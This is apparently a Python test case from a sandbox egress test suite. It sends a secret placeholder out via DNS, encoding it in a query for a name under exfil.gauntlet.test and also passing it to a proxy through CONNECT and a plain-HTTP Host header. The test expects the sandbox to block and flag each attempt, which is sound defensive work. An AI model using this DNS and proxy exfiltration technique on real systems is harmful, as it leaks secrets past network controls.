# name: secret-dns
# tries: exfiltrate the placeholder through DNS: a query for a name that carries it to the only resolver around, and names holding it handed to the proxy (CONNECT and a plain-HTTP Host)
# must: run no resolver the program can reach and resolve only allowed names: the proxy never asks DNS for a name holding the placeholder (nor the value)
# network: allow=bound.gauntlet.test:{bound_port}
# secret: GAUNTLET_KEY@bound.gauntlet.test:{bound_port}
# expect: *=ok egress=violation:network|secret_misdirected
import os
import socket
import ssl
from urllib.parse import urlsplit

ph = os.environ.get("GAUNTLET_KEY", "no-placeholder")
bound = os.environ.get("GAUNTLET_BOUND", "bound.gauntlet.test:443")
bhost = bound.rpartition(":")[0]
proxy = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy") or "http://127.0.0.1:3128")


def tunnel(to=bound):
    s = socket.create_connection((proxy.hostname, proxy.port or 3128), timeout=10)
    s.sendall(f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n".encode())
    r = b""
    while b"\r\n\r\n" not in r:
        x = s.recv(1)
        if not x:
            raise OSError("the proxy closed the tunnel")
        r += x
    if b" 200" not in r.split(b"\r\n")[0]:
        raise OSError(r.split(b"\r\n")[0].decode(errors="replace"))
    return s


def ask(raw, ctx=None, to=bound):
    """Send raw bytes over TLS to the bound host through the proxy; all that comes back."""
    try:
        ctx = ctx or ssl.create_default_context()
        s = ctx.wrap_socket(tunnel(to), server_hostname=to.rpartition(":")[0])
        s.sendall(raw)
        got = b""
        while len(got) < 1 << 20:
            try:
                x = s.recv(65536)
            except (OSError, ssl.SSLError):
                break
            if not x:
                break
            got += x
        return got.decode(errors="replace")
    except Exception as e:
        return f"failed: {type(e).__name__}: {e}"


def plain(raw, host):
    """Send raw bytes to the proxy as a plain-HTTP request; the first line back."""
    try:
        s = socket.create_connection((proxy.hostname, proxy.port or 3128), timeout=10)
        s.sendall(raw)
        d = s.recv(4096)
        return d.decode(errors="replace").splitlines()[0] if d else "closed"
    except Exception as e:
        return f"failed: {type(e).__name__}: {e}"
import struct

name = f"{ph}.exfil.gauntlet.test"
q = struct.pack(">HHHHHH", 0x5342, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
host, _, port = os.environ.get("GAUNTLET_DNS", "127.0.0.1:53").rpartition(":")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(1)
try:
    u.sendto(q, (host, int(port)))
    print("dns:", u.recv(512))
except OSError as e:
    print("dns: none", e)
try:
    tunnel(f"{name}:443")
    print("connect: opened")
except OSError as e:
    print("connect:", e)
print("http:", plain(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n".encode(), name))
